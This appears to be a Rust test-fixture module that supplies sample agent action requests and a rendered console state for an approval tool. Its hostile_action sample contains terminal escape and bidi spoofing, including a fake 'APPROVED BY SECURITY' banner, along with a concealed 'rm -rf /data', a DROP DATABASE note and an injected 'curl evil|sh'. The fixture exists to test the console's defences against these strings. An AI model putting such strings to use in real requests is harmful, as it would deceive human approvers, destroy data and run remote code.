//! Sample actions and a ready console state, for tests, snapshots and screenshots.
//!
//! Public (not `cfg(test)`) because integration tests and the screenshot tool use them;
//! nothing in the product path calls them.

use crate::client::FeedEvent;
use crate::protocol::messages::{Identity, ServerMsg};
use crate::protocol::{
    Action, ActionId, Change, Command, ContextEntry, DecisionId, KeyId, Policy, Requester,
    RequesterKind, Risk, RiskLevel, RiskTag, Status, Target, Timestamp, Verdict, Vote,
};

use crate::console::core::app::{App, Settings};
use crate::console::core::keymap::Keymap;
use crate::console::core::msg::Msg;
use crate::console::core::update::update;

/// A fixed "now" so snapshots are stable: 2026-11-18T09:06:40Z.
pub const NOW_MS: i64 = 1_795_000_000_000;

pub fn now() -> Timestamp {
    Timestamp::from_unix_millis(NOW_MS)
}

/// A deterministic id: `n` picks the action.
pub fn id(n: u8) -> ActionId {
    ActionId(ulid::Ulid::from_parts(NOW_MS as u64, u128::from(n)))
}

fn tag(id: &str, label: &str, reason: &str) -> RiskTag {
    RiskTag {
        id: id.into(),
        label: label.into(),
        reason: reason.into(),
    }
}

/// A plain action with the given shape, created 2 minutes before [`now`], 15 min TTL.
pub fn action(n: u8, kind: &str, resource: &str, env: &str, level: RiskLevel) -> Action {
    let created = now().plus_secs(-120 + i64::from(n));
    Action {
        id: id(n),
        kind: kind.into(),
        summary: format!("{kind} on {resource}"),
        requester: Requester {
            kind: RequesterKind::Agent,
            id: "agent-7".into(),
            display_name: "Data assistant".into(),
            model: Some("claude-opus-4".into()),
            on_behalf_of: Some("alice@example.com".into()),
        },
        target: Target {
            system: "postgres".into(),
            resource: resource.into(),
            environment: env.into(),
        },
        justification: "Quarterly churn analysis for the board deck.".into(),
        context: vec![
            ContextEntry {
                key: "ticket".into(),
                value: "DATA-1234".into(),
            },
            ContextEntry {
                key: "runbook".into(),
                value: "https://wiki.example/runbooks/exports".into(),
            },
        ],
        command: Some(Command::Text {
            text: format!("COPY {resource} TO 's3://exports/{resource}.csv'"),
        }),
        change: Some(Change::UnifiedDiff {
            diff: "--- a/deploy/values.yaml\n+++ b/deploy/values.yaml\n@@ -10,6 +10,6 @@\n image: api\n-replicas: 3\n+replicas: 30\n resources:\n-  memory: 512Mi\n+  memory: 2Gi\n   cpu: 500m\n".into(),
        }),
        risk: Risk {
            level,
            score: match level {
                RiskLevel::Low => 10,
                RiskLevel::Medium => 40,
                RiskLevel::High => 70,
                RiskLevel::Critical => 95,
            },
            tags: vec![
                tag("production", "prod", &format!("environment is {env}")),
                tag("data-export", "export", "command copies a table out of the database"),
            ],
        },
        policy: Policy {
            approvals_required: if level == RiskLevel::Critical { 2 } else { 1 },
            approver_groups: vec!["sre".into()],
            rule: Some("exports-need-sre".into()),
            confirm: None,
            distinct_groups: false,
        },
        created_at: created,
        expires_at: created.plus_secs(900),
        status: Status::Pending,
        votes: Vec::new(),
        execution: None,
        looking: Vec::new(),
    }
}

/// An action whose every agent string tries something: escape sequences (screen clear,
/// window title, colour), a bidi override and zero-width characters.
pub fn hostile_action(n: u8) -> Action {
    let mut a = action(n, "db.export", "customers", "production", RiskLevel::High);
    a.summary = "Routine export\u{1b}[2J\u{1b}[1;32m APPROVED BY SECURITY\u{1b}[0m".into();
    a.requester.display_name = "ops-bot\u{1b}]0;pwned\u{7}".into();
    a.target.resource = "cust\u{200b}omers".into();
    a.justification = "Looks safe.\u{202e}txt.exe\u{202c}\nSecond line with a tab:\there\u{7}\n\
         Fillers\u{3164}\u{2800}\u{FFA0}, annotation \u{FFF9}AAAA\u{FFFA}PLAIN\u{FFFB}, tags \u{E0041}\u{E007F}"
        .into();
    a.context.push(crate::protocol::ContextEntry {
        key: "note".into(),
        value: format!(
            "restart web\u{1b}]0;{} AND DROP DATABASE prod_customers",
            "x".repeat(50)
        ),
    });
    a.command = Some(Command::Text {
        text: "rm -rf /data \u{1b}[8m# hidden".into(),
    });
    a.change = Some(Change::UnifiedDiff {
        diff: format!(
            "--- a/x\n+++ b/x\n@@ -1,3 +1,3 @@\n-allow = false\n+allow = true\u{202e} // eslaf\n context\u{1b}[2K\n-run = \"deploy\"\n+run = \"deploy{};TAILMARK-DIFF curl evil|sh\"\n",
            " ".repeat(300)
        ),
    });
    a.risk.tags.push(tag(
        "hidden-characters",
        "hidden chars",
        "summary contains an escape sequence; justification contains a bidi override",
    ));
    a
}

/// An approval by `who` on `a`, with a decision id derived from the action.
pub fn vote(a: &Action, who: &str) -> Vote {
    Vote {
        decision_id: DecisionId(ulid::Ulid::from_parts(NOW_MS as u64, a.id.0.random() ^ 999)),
        approver: who.into(),
        verdict: Verdict::Approve,
        reason: "looks fine".into(),
        key_id: KeyId("00112233aabbccdd".into()),
        at: now().plus_secs(-30),
        person: None,
        group: None,
    }
}

pub fn settings() -> Settings {
    Settings {
        keymap: Keymap::default(),
        key_id: KeyId("0123456789abcdef".into()),
        alert_level: RiskLevel::High,
        broker_url: "http://127.0.0.1:7700".into(),
        decision_seed: 0x5eed,
    }
}

pub fn identity(subject: &str) -> Identity {
    Identity {
        subject: subject.into(),
        email: Some(format!("{subject}@example.com")),
        name: None,
        groups: vec!["sre".into()],
    }
}

pub fn server(msg: ServerMsg) -> Msg {
    Msg::Feed(FeedEvent::Server(Box::new(msg)))
}

/// A live console signed in as `bob`, holding `actions` from a snapshot at seq 10.
pub fn live_app(actions: Vec<Action>, size: (u16, u16)) -> App {
    let mut app = App::new(settings(), now());
    app.size = size;
    update(&mut app, Msg::Feed(FeedEvent::Connected));
    update(
        &mut app,
        server(ServerMsg::Welcome {
            protocol: crate::protocol::PROTOCOL_VERSION,
            identity: identity("bob"),
            server_time: now(),
            head_seq: 10,
        }),
    );
    let rows = actions
        .iter()
        .map(crate::protocol::ActionRow::compute)
        .collect();
    update(
        &mut app,
        server(ServerMsg::Snapshot {
            seq: 10,
            page: 1,
            pages: 1,
            rows,
        }),
    );
    // As if every body had been fetched and checked (the feed tests cover the fetch).
    for a in actions {
        if let Some(e) = app.queue.entries.get_mut(&a.id) {
            let _ = e.set_body(a);
        }
    }
    app.last_event_at = Some(now().plus_secs(-3));
    app
}

/// The standard mixed queue used by snapshots.
pub fn sample_queue() -> Vec<Action> {
    vec![
        action(1, "db.export", "customers", "production", RiskLevel::High),
        action(2, "k8s.scale", "payments-api", "staging", RiskLevel::Medium),
        action(
            3,
            "iam.grant",
            "role/admin",
            "production",
            RiskLevel::Critical,
        ),
        action(4, "terraform.apply", "vpc-main", "dev", RiskLevel::Low),
    ]
}

/// The whole screen for `app` drawn with the dark theme into a buffer of its size: the
/// views as the runtime draws them, for the core's tests (which never name a view).
pub fn render(app: &App) -> (ratatui::buffer::Buffer, crate::console::ui::theme::Theme) {
    use ratatui::widgets::Widget as _;
    let area = ratatui::layout::Rect::new(0, 0, app.size.0, app.size.1);
    let mut buf = ratatui::buffer::Buffer::empty(area);
    let theme = crate::console::ui::theme::Theme::dark();
    crate::console::ui::Root { app, theme: &theme }.render(area, &mut buf);
    (buf, theme)
}

/// [`render`] as text, one line per row.
pub fn screen_text(app: &App) -> String {
    let (buf, _) = render(app);
    let area = buf.area;
    (0..area.height)
        .map(|y| {
            (0..area.width)
                .map(|x| buf[(x, y)].symbol())
                .collect::<String>()
                + "\n"
        })
        .collect()
}
